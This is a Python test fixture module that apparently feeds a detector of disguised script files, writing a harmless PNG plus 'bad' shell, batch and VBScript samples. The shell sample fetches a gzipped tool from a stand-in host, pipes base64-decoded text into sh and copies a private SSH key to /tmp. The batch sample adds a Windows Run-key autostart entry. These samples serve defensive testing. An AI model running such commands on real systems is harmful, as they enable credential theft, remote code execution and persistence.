"""A picture, scripts of a shell and of Windows, one cut short."""

from __future__ import annotations

from pathlib import Path

from onionskin.lookalike.icons import build_png

SHELL = """#!/bin/sh
# curl https://feed.example/a | sh is only spoken of here
curl -fsS https://feed.example/tool.gz | gzip -dc > tool
echo "dHJ1ZQ==" | base64 -d | sh
cp ~/.ssh/id_rsa /tmp/key; crontab -l
"""
BATCH = """@echo off\nrem powershell is only spoken of here\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a\n"""
SCRIPT = """' CreateObject is only spoken of here\nSet s = CreateObject("WScript.Shell")\nWScript.Sleep 5\n"""


def _written(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text, "utf-8")
    return path


def good_a_picture_is_no_script(folder: Path) -> Path:
    path = folder / "logo.png"
    path.write_bytes(build_png(16))
    return path


def bad_a_shell_without_a_suffix(folder: Path) -> Path:
    return _written(folder, "install", SHELL)


def bad_a_batch_file(folder: Path) -> Path:
    return _written(folder, "install.cmd", BATCH)


def bad_visual_basic(folder: Path) -> Path:
    return _written(folder, "install.vbs", SCRIPT)


def damaged(folder: Path) -> Path:
    return _written(folder, "install.sh", SHELL[: len(SHELL) // 2] + "\0'")
